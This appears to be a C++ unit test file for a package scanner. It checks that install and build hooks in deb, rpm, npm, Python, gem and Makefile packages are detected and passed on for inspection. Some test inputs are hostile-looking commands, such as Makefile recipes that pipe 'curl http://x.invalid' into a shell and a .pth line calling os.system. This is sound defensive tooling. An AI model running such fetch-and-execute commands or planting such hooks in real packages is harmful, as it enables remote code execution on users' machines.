#include "examine/steps/steps.h"

#include <gtest/gtest.h>

#include "evidence/recorder.h"

using namespace evidence;
using artifact::Link;
using artifact::Origin;

namespace {

const std::vector<Link> control = {{"pkg.deb", "deb", Origin::product}, {"control.tar.xz", "xz", Origin::member}, {"", "tar", Origin::layer}};
const std::vector<Link> npm = {{"p.tgz", "gzip", Origin::product}, {"", "npm", Origin::layer}};

Reading read(std::string_view text, std::string_view name, std::vector<Link> containers, std::string_view kind = "text") {
  return read_alone(examine::steps(), base::bytes_of(text), kind, name, std::move(containers));
}

Reading read_step(std::string_view name) {
  View view;
  view.entry.name = name;
  view.entry.origin = Origin::step;
  view.place.links = {{"x.rpm", "rpm", Origin::product}, {std::string(name), "script/shell", Origin::step}};
  Reading out{Recorder({}), {}};
  out.result = examine::steps().read(view, out.sink);
  return out;
}

}  // namespace

TEST(Steps, MaintainerScriptsAreSteps) {
  EXPECT_TRUE(read("#!/bin/sh\n", "./postinst", control).sink.has(Facet::step, "install", "postinst"));
  EXPECT_TRUE(read("#!/bin/sh\n", "preinst", control).sink.has(Facet::step, "install", "preinst"));
  EXPECT_TRUE(read("#!/bin/sh\n", "./prerm", control).sink.has(Facet::step, "remove", "prerm"));
  EXPECT_EQ(read("", "./postinst", control).sink.items.at(0).attributes.at("package manager"), "dpkg");
}

TEST(Steps, TheSameNameElsewhereIsNot) {
  auto data = control;
  data[1].name = "data.tar.xz";
  EXPECT_TRUE(read("#!/bin/sh\n", "./postinst", data).sink.items.empty());
  EXPECT_TRUE(read("#!/bin/sh\n", "./usr/share/doc/postinst", control).sink.items.empty());
  EXPECT_TRUE(read("#!/bin/sh\n", "./md5sums", control).sink.items.empty());
}

TEST(Steps, HandedOnTextsAreToldByTheirNames) {
  EXPECT_TRUE(read_step("%postin").sink.has(Facet::step, "install", "%postin"));
  EXPECT_TRUE(read_step("%preun").sink.has(Facet::step, "remove", "%preun"));
  EXPECT_TRUE(read_step("npm:postinstall").sink.has(Facet::step, "install"));
  EXPECT_TRUE(read_step("entrypoint").sink.has(Facet::step, "start"));
  EXPECT_TRUE(read_step("healthcheck").sink.has(Facet::step, "healthcheck"));
  EXPECT_EQ(read_step("other").sink.items.size(), 1u);
}

TEST(Steps, NpmLifecycleCommandsAreHandedOn) {
  const auto r = read(R"({"name":"x","scripts":{"test":"mocha","postinstall":"node lib/x.js","prepare":"tsc"}})", "package/package.json", npm);
  ASSERT_TRUE(r.result);
  ASSERT_EQ(r.sink.children.size(), 2u);
  const auto* child = r.sink.child_named("npm:postinstall");
  ASSERT_NE(child, nullptr);
  EXPECT_EQ(base::text_of(child->bytes), "node lib/x.js");
  EXPECT_EQ(child->entry.kind, "script/shell");
  EXPECT_EQ(child->entry.origin, Origin::step);
}

TEST(Steps, NobodyRunsNpmScriptsOfADistributionPackage) {
  std::vector<Link> data = {{"n.deb", "deb", Origin::product}, {"data.tar", "tar", Origin::member}};
  EXPECT_TRUE(read(R"({"scripts":{"postinstall":"x"}})", "./usr/share/nodejs/a/package.json", data).sink.children.empty());
}

TEST(Steps, BrokenPackageJsonIsAnError) {
  const auto r = read(R"({"scripts":{"postinst)", "package/package.json", npm);
  ASSERT_FALSE(r.result);
  EXPECT_EQ(r.result.error().trouble, base::Trouble::malformed);
  EXPECT_TRUE(read("[]", "package/package.json", npm).result);
  EXPECT_TRUE(read(R"({"scripts":[1],"a":{}})", "package/package.json", npm).result);
}

TEST(Steps, GypCommandsAreHandedOn) {
  const auto r = read("{'sources': ['<!@(node -p \"f(1)\")', 'a.c', '<!(echo x)']}", "package/binding.gyp", npm);
  ASSERT_EQ(r.sink.children.size(), 2u);
  EXPECT_EQ(base::text_of(r.sink.children[0].bytes), "node -p \"f(1)\"");
  EXPECT_TRUE(r.sink.has(Facet::step, "install", "node-gyp rebuild"));
}

TEST(Steps, PythonHooks) {
  EXPECT_TRUE(read("from setuptools import setup\nsetup()", "x-1.0/setup.py", {}).sink.has(Facet::step, "install", "setup.py"));
  EXPECT_TRUE(read("", "usr/lib/python3/dist-packages/sitecustomize.py", {}).sink.has(Facet::step, "start"));
  const auto pth = read("# c\nimport os; os.system('x')\n./lib\n", "a/x.pth", {});
  ASSERT_EQ(pth.sink.children.size(), 1u);
  EXPECT_EQ(pth.sink.children[0].entry.name, "pth:2");
  EXPECT_EQ(pth.sink.children[0].entry.kind, "script/python");
  EXPECT_TRUE(read("./lib\nimportant\n", "a/x.pth", {}).sink.children.empty());
}

TEST(Steps, InTreeBuildBackends) {
  const auto r = read("[build-system]\nrequires = []\nbuild-backend = \"my.back\"\nbackend-path = [\"_build\"]\n[x]\n", "x/pyproject.toml", {});
  EXPECT_TRUE(r.sink.has(Facet::step, "build", "my.back"));
  EXPECT_TRUE(r.sink.has(Facet::reference, "runs", "_build/my/back.py"));
  EXPECT_TRUE(read("[build-system]\nbuild-backend = \"hatchling.build\"\n", "x/pyproject.toml", {}).sink.items.empty());
}

TEST(Steps, GemExtensions) {
  std::vector<Link> gem = {{"x.gem", "gem", Origin::product}, {"metadata.gz", "gzip", Origin::member}};
  View view;
  const auto r = read("name: x\nextensions:\n- ext/x/extconf.rb\nfiles:\n- lib/x.rb\n", "metadata", gem);
  EXPECT_TRUE(r.sink.has(Facet::reference, "runs", "ext/x/extconf.rb"));
  EXPECT_FALSE(r.sink.has(Facet::reference, "runs", "lib/x.rb"));
}

TEST(Steps, BuildFilesAndTriggers) {
  EXPECT_TRUE(read("all:\n", "x-1/Makefile", {}).sink.has(Facet::step, "build", "Makefile"));
  EXPECT_TRUE(read("", "x-1/m4/build-to-host.m4", {}).sink.has(Facet::step, "build"));
  EXPECT_TRUE(read("#!/usr/bin/make -f", "x-1/debian/rules", {}).sink.has(Facet::step, "build", "debian/rules"));
  EXPECT_TRUE(read("interest-noawait /usr/lib/x\nactivate y\n", "./triggers", control).sink.has(Facet::step, "update"));
}

TEST(Steps, TruncatedAtEveryByteNeverCrashes) {
  const std::string json = R"({"name":"x","scripts":{"postinstall":"node \"a\" lib/x.js","prepare":"tsc"}, "gypfile": true})";
  for (std::size_t n = 0; n <= json.size(); ++n) {
    const auto r = read(json.substr(0, n), "package/package.json", npm);
    EXPECT_EQ(static_cast<bool>(r.result), n == json.size()) << n;
    (void)read(json.substr(0, n), "package/binding.gyp", npm);
  }
}

TEST(Steps, CommandsOfMakefilesAreHandedOn) {
  const auto r = read("PROG = grid\nX = $(shell cat data | sh)\nall: $(PROG)\n\t@curl http://x.invalid/$(PROG) | $(SHELL)\n\t-echo $$HOME $@\n", "Makefile", {});
  const auto* child = r.sink.child_named("make:commands");
  ASSERT_NE(child, nullptr);
  EXPECT_EQ(base::text_of(child->bytes), "PROG='grid'\ncat data | sh\ncurl http://x.invalid/${PROG} | ${SHELL}\necho $HOME ${MAKE_FILE}\n");
  EXPECT_EQ(examine::hooks::makefile_commands("A := b\nx: y\n"), "");
  EXPECT_EQ(examine::hooks::makefile_commands("V != date | sh\n"), "date | sh\n");
  EXPECT_EQ(examine::hooks::makefile_commands("V = $(shell a\n"), "");
  EXPECT_TRUE(read("all:\n\tcurl http://x.invalid | sh\n", "./usr/share/x/Makefile", {{"p.deb", "deb", Origin::product}, {"data.tar", "tar", Origin::member}}).sink.children.empty());
}
